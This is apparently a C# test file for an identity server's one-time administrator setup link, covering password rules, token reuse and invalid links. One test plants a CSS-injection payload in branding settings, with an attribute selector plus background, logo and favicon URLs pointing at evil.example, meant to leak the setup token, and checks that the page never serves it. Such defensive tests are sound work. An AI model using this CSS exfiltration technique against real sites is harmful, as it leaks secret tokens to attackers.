using System.Net;
using IdentityHub.Server.People;
using IdentityHub.Server.Tests.Support;
using Microsoft.Extensions.DependencyInjection;

namespace IdentityHub.Server.Tests.SignIn;

public sealed class SetupPageTests
{
    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task The_link_sets_a_password_once(string provider)
    {
        await using var scenario = await SignInScenario.StartAsync(provider);
        var administrators = scenario.Host.Services.GetRequiredService<Administrators>();
        var token = (await administrators.CreateAsync(new("root", null, null, AdministratorRole.Owner), CancellationToken.None)).SetupToken;
        var browser = scenario.NewBrowser();

        var page = await browser.GetAsync("/setup?token=" + token);
        Assert.Contains("root", page.Document.QuerySelector(".lead")!.TextContent, StringComparison.Ordinal);
        var empty = await browser.SubmitAsync(page);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, empty.Status);
        var weak = await browser.SubmitAsync(empty, ("password", "short"));
        Assert.Equal(HttpStatusCode.UnprocessableEntity, weak.Status);
        Assert.Contains("at least 12 characters", weak.Problem, StringComparison.Ordinal);
        var done = await browser.SubmitAsync(weak, ("password", "granite owl umbrella"));
        Assert.Equal((HttpStatusCode.OK, "Password saved"), (done.Status, done.Heading));

        var again = await browser.SubmitAsync(weak, ("password", "another owl umbrella"));
        Assert.Equal((HttpStatusCode.NotFound, "This link is no longer valid"), (again.Status, again.Heading));
        var answer = await browser.SignInAsync(await browser.StartAsync(), "root", "granite owl umbrella");
        Assert.Equal(HttpStatusCode.SeeOther, answer.Status);
    }

    [Theory(DisplayName = "No style sheet and no logo of an editor is where an administrator's link is")]
    [InlineData("/setup?token=")]
    [InlineData("/Setup?lang=de&app_id=spa&token=")]
    public async Task The_page_wears_nothing_that_could_read_the_link(string path)
    {
        await using var scenario = await SignInScenario.StartAsync(
            Databases.Sqlite, """{"customCss":"form[action*=a]{background:url(https://evil.example/a)}","branding":{"logoUrl":"https://evil.example/logo.png","favicon":"https://evil.example/icon.png"}}""");
        var administrators = scenario.Host.Services.GetRequiredService<Administrators>();
        var token = (await administrators.CreateAsync(new("root", null, null, AdministratorRole.Owner), CancellationToken.None)).SetupToken;
        var browser = scenario.NewBrowser();

        var page = await browser.GetAsync(path + token);
        var stale = await browser.PostAsync(path + token, new KeyValuePair<string, string>("password", "granite owl umbrella"));

        Assert.Equal(HttpStatusCode.BadRequest, stale.Status);
        Assert.All(new[] { page, stale }, answer =>
        {
            Assert.DoesNotContain("evil.example", answer.Html + answer.Headers["Content-Security-Policy"], StringComparison.Ordinal);
            Assert.DoesNotContain("/assets/custom-", answer.Html, StringComparison.Ordinal);
        });
    }

    [Theory]
    [InlineData("")]
    [InlineData("?token=")]
    [InlineData("?token=%00")]
    [InlineData("?token=not-a-token")]
    public async Task A_wrong_link_shows_no_form(string query)
    {
        await using var scenario = await SignInScenario.StartAsync(Databases.Sqlite);
        var answer = await scenario.NewBrowser().GetAsync("/setup" + query);

        Assert.Equal(HttpStatusCode.NotFound, answer.Status);
        Assert.Null(answer.Document.QuerySelector("form"));
    }
}
